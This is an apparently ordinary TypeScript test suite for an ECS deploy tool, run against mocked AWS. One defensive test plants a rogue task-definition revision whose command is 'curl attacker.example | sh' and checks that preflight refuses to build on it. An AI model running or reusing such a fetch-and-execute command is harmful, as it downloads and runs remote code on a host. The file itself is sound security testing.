/**
 * deploy-service end to end against moto (preflight, register, update), with the rollout that
 * moto cannot simulate scripted on top of its DescribeServices answers (tests/support/rollout.ts).
 */
import { createServer, type Server } from "node:http";
import {
  DescribeServicesCommand,
  DescribeTaskDefinitionCommand,
  RegisterTaskDefinitionCommand,
  type TaskDefinition,
} from "@aws-sdk/client-ecs";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { deploymentAlarmNames } from "../../lib/naming";
import { deployService } from "../src/deploy/deploy";
import { deployTarget } from "../src/deploy/options";
import { PreflightError } from "../src/deploy/preflight";
import { RECORD_TAGS, readRecord } from "../src/deploy/record";
import { READ_ONLY_FIELDS } from "../src/deploy/task-definition";
import { createService, ecrClient, ecsClient, pushImage, revisionsOf, uniqueVars, useMoto } from "./support/aws";
import { completes, options, RUNNER, run, serviceTaskDefinition, stuck, world } from "./support/deploy";
import { deployment, type RolloutScript } from "./support/rollout";

beforeAll(() => {
  useMoto();
});

let server: Server | undefined;
afterEach(() => server?.close());

describe("deploy-service rolls an image onto the ECS service", () => {
  it("registers a revision that differs from the old one only in the image, and points the service at it", async () => {
    const w = await world();
    server = createServer((_, response) => response.end("<p>Server&nbsp;name: <span>web-1</span></p>"));
    await new Promise<void>((done) => server?.listen(0, "127.0.0.1", done));
    const address = server.address() as { port: number };
    const probeUrl = `http://127.0.0.1:${address.port}/`;

    const { result, log } = await run(w, completes, { probeUrl });

    expect(result.exitCode).toBe(0);
    expect(await serviceTaskDefinition(w.target)).toBe(result.newTaskDefinitionArn);
    const describe = async (arn: string | undefined) =>
      ecsClient().send(new DescribeTaskDefinitionCommand({ taskDefinition: arn, include: ["TAGS"] }));
    const before = await describe(w.oldArn);
    const after = await describe(result.newTaskDefinitionArn);
    expect(after.taskDefinition?.revision).toBe((before.taskDefinition?.revision ?? 0) + 1);
    expect(after.taskDefinition?.containerDefinitions?.[0].image).toBe(w.newImage);
    const ours = new Set<string>(Object.values(RECORD_TAGS));
    expect(after.tags?.filter((tag) => !ours.has(String(tag.key)))).toEqual(before.tags);
    expect(readRecord(after.tags)).toEqual({ action: "deploy", ...RUNNER, replaced: `${w.target.family}:1` });
    const comparable = (response: typeof before, image: string) => {
      const copy: Record<string, unknown> = { ...response.taskDefinition };
      for (const field of READ_ONLY_FIELDS) delete copy[field];
      copy.containerDefinitions = response.taskDefinition?.containerDefinitions?.map((c) => ({ ...c, image }));
      return copy;
    };
    expect(comparable(after, "IMAGE")).toEqual(comparable(before, "IMAGE"));
    expect(log).toContain(`image ${w.oldImage} → ${w.newImage}`);
    expect(log.match(/has started 1 tasks/g)).toHaveLength(1);
    expect(result.text).toMatch(/frontend → dev: deployed/);
    expect(result.text).toContain(`${w.target.family}:1 → ${w.target.family}:2`);
    expect(result.text).toMatch(/\d+ requests to http:\/\/127\.0\.0\.1:\d+\/ .*, 0 failed, .*responders: web-1 ×\d+/);
  });

  it("builds on the family's newest revision, so a shape change Terraform registered rolls out with the image", async () => {
    const w = await world();
    const ecs = ecsClient();
    const running = await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: w.oldArn }));
    // What `cdktf deploy dev` does after a memory change: a new revision with the provider's default
    // tags, the service left alone.
    await registerNewerRevision(running.taskDefinition, "dev");

    const { result, log } = await run(w, completes);

    expect(result.exitCode).toBe(0);
    const after = await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: result.newTaskDefinitionArn }));
    expect(after.taskDefinition?.revision).toBe(3);
    expect(after.taskDefinition?.memory).toBe("1024");
    expect(after.taskDefinition?.containerDefinitions?.[0].image).toBe(w.newImage);
    expect(log).toContain(`copied from ${w.target.family}:2`);
    expect(log).toContain("also rolls out its changes to: memory");
  });

  it("will not build on a newer revision not tagged for the environment (one slipped into prod's family), and changes nothing", async () => {
    const w = await world("prod");
    const ecs = ecsClient();
    const running = await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: w.oldArn }));
    // What the build agent's role could register: a revision of prod's family, tagged dev, other command.
    await registerNewerRevision(running.taskDefinition, "dev", ["sh", "-c", "curl attacker.example | sh"]);

    const attempt = run(w, completes, { environment: "prod" });

    await expect(attempt).rejects.toThrow(PreflightError);
    await expect(attempt).rejects.toThrow(
      `${w.target.family}:2, the newest revision of ${w.target.family} and newer than the running ` +
        `${w.target.family}:1, is tagged environment=dev, not prod`,
    );
    await expect(attempt).rejects.toThrow(`aws ecs deregister-task-definition --task-definition ${w.target.family}:2`);
    expect(await revisionsOf(ecs, w.target.family)).toHaveLength(2);
    expect(await serviceTaskDefinition(w.target)).toBe(w.oldArn);
  });

  it("will not build on a newer revision without the environment tag either", async () => {
    const w = await world();
    const ecs = ecsClient();
    const running = await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: w.oldArn }));
    await registerNewerRevision(running.taskDefinition, undefined);

    await expect(run(w, completes)).rejects.toThrow(/is tagged environment=\(none\), not dev/);
    expect(await revisionsOf(ecs, w.target.family)).toHaveLength(2);
  });

  it("refuses while another deployment is in progress, naming it, and registers nothing", async () => {
    const vars = uniqueVars();
    const target = deployTarget(vars, "dev", "frontend");
    const image = await pushImage(ecrClient(), target.repository, "42-bbbbbbb-7");
    await createService(ecsClient(), target, image, 3); // moto runs 2 of 3: the rollout stays IN_PROGRESS
    const described = await ecsClient().send(
      new DescribeServicesCommand({ cluster: target.cluster, services: [target.service] }),
    );
    const inFlight = String(described.services?.[0]?.deployments?.[0]?.id);

    const attempt = deployService(options({ image: "42-bbbbbbb-7" }), {
      ecs: ecsClient(),
      ecr: ecrClient(),
      vars,
      log: () => {},
    });

    // Not bad input: the CLI exits 1 for anything but a UsageError.
    await expect(attempt).rejects.toThrow(PreflightError);
    await expect(attempt).rejects.toThrow(inFlight);
    expect(await revisionsOf(ecsClient(), target.family)).toHaveLength(1);
  });

  it("fails with the circuit breaker's reason and the stopped tasks' reasons when the rollout FAILED", async () => {
    const w = await world();
    const failed: RolloutScript = ({ updates, previous, poll }) => {
      const next = String(updates[0]);
      if (poll === 0) return stuck({ updates, previous, poll });
      return {
        deployments: [
          deployment("PRIMARY", previous, "IN_PROGRESS", 1, 1),
          deployment("ACTIVE", next, "FAILED", 0, 1, {
            failedTasks: 3,
            rolloutStateReason: "ECS deployment circuit breaker: tasks failed to start.",
          }),
        ],
      };
    };
    const stoppedTasks = (next: string) => [
      {
        taskArn: "arn:aws:ecs:eu-central-1:123456789012:task/x/1",
        taskDefinitionArn: next,
        stoppedReason: "Essential container in task exited",
        containers: [{ name: "frontend", exitCode: 1, reason: "CannotStartContainerError: exec format error" }],
      },
      {
        taskArn: "arn:aws:ecs:eu-central-1:123456789012:task/x/0",
        taskDefinitionArn: w.oldArn,
        stoppedReason: "Scaling activity",
      },
    ];

    const { result } = await run(w, failed, {}, stoppedTasks);

    expect(result.exitCode).toBe(1);
    expect(result.outcome?.state).toBe("failed");
    expect(result.text).toContain("ECS deployment circuit breaker: tasks failed to start.");
    expect(result.outcome).toMatchObject({
      stoppedReasons: ["Essential container in task exited; frontend: CannotStartContainerError: exec format error"],
    });
  });

  it("fails a rollout that a deployment alarm rolled back, naming the alarm from the rollout's reason", async () => {
    const w = await world();
    const alarm = deploymentAlarmNames(w.vars, "dev", "frontend")["target-5xx-rate"];
    const reason = `Rolling back: deployment alarm ${alarm} is in ALARM state.`;
    const rolledBackByAlarm: RolloutScript = (context) =>
      context.poll === 0
        ? stuck(context)
        : {
            deployments: [
              deployment("PRIMARY", context.previous, "IN_PROGRESS", 1, 1),
              deployment("ACTIVE", String(context.updates[0]), "FAILED", 1, 1, { rolloutStateReason: reason }),
            ],
          };

    const { result } = await run(w, rolledBackByAlarm);

    expect(result.exitCode).toBe(1);
    expect(result.outcome).toMatchObject({ state: "failed", alarms: [alarm] });
    expect(result.text).toContain(
      `frontend → dev: FAILED: rolled back by alarm ${alarm}: rollout of ${w.target.family}:2 FAILED: ${reason}`,
    );
  });

  it("fails when ECS puts the old revision back, even though the service ends stable", async () => {
    const w = await world();
    const rolledBack: RolloutScript = (context) =>
      context.poll === 0
        ? stuck(context)
        : { deployments: [deployment("PRIMARY", context.previous, "COMPLETED", 1, 1)] };

    const { result } = await run(w, rolledBack);

    expect(result.exitCode).toBe(1);
    expect(result.outcome?.state).toBe("rolled-back");
    expect(result.text).toContain(`back to ${w.target.family}:1`);
  });

  it("gives up after --timeout, saying what still runs, and leaves the service alone", async () => {
    const w = await world();

    const { result, updates } = await run(w, stuck, { timeoutSeconds: 0.3 });

    expect(result.exitCode).toBe(1);
    expect(result.outcome?.state).toBe("timeout");
    expect(result.text).toMatch(/still running: .*:2 PRIMARY IN_PROGRESS: desired 1, running 0.*:1 ACTIVE COMPLETED/);
    expect(updates).toHaveLength(1);
  });

  it("puts the previous revision back with --rollback-on-timeout and waits for it", async () => {
    const w = await world();
    const rollback: RolloutScript = (context) => (context.updates.length === 1 ? stuck(context) : completes(context));

    const { result, updates } = await run(w, rollback, { timeoutSeconds: 0.3, rollbackOnTimeout: true });

    expect(updates).toEqual([result.newTaskDefinitionArn, w.oldArn]);
    expect(await serviceTaskDefinition(w.target)).toBe(w.oldArn);
    expect(result.exitCode).toBe(1);
    expect(result.text).toContain(`rolled back to ${w.target.family}:1`);
  });

  it("fails a completed rollout when the probe saw failed requests, unless --probe-allow-failures covers them", async () => {
    let served = 0;
    server = createServer((_, response) => {
      served += 1;
      response.statusCode = served === 1 ? 503 : 200; // one dropped request, as a cut connection would be
      response.end("ok");
    });
    await new Promise<void>((done) => server?.listen(0, "127.0.0.1", done));
    const probeUrl = `http://127.0.0.1:${(server.address() as { port: number }).port}/`;

    const strict = await run(await world(), completes, { probeUrl });
    served = 0;
    const tolerant = await run(await world(), completes, { probeUrl, probeAllowFailures: 1 });

    expect(strict.result.exitCode).toBe(1);
    expect(strict.result.text).toMatch(/1 failed, .*more than the 0 allowed/);
    expect(tolerant.result.exitCode).toBe(0);
    expect(tolerant.result.text).toMatch(/1 failed, .*\(≤ 1 allowed\)/);
  });

  it("promotes the image dev runs to prod with --from dev, without a new image", async () => {
    const dev = await world("dev");
    const prod = await world("prod", dev.vars);
    // dev runs 42-...: deploy it there first, as the pipeline does
    await run(dev, completes);

    const { result } = await run(prod, completes, { environment: "prod", image: undefined, from: "dev" });

    expect(result.exitCode).toBe(0);
    expect(result.summary.newImage).toBe(dev.newImage);
    expect(result.summary.oldImage).toBe(prod.oldImage);
  });
});

/** A revision newer than the running one, as another party registers it: 1024 MiB, the tag given, a command. */
async function registerNewerRevision(
  running: TaskDefinition | undefined,
  environmentTag: string | undefined,
  command?: string[],
) {
  const { taskDefinitionArn: _arn, revision: _revision, status: _status, ...shape } = running ?? {};
  await ecsClient().send(
    new RegisterTaskDefinitionCommand({
      ...(shape as RegisterTaskDefinitionCommand["input"]),
      memory: "1024",
      containerDefinitions: running?.containerDefinitions?.map((c) => ({
        ...c,
        image: "nginxdemos/hello:latest",
        command,
      })),
      tags: environmentTag ? [{ key: "environment", value: environmentTag }] : undefined,
    }),
  );
}
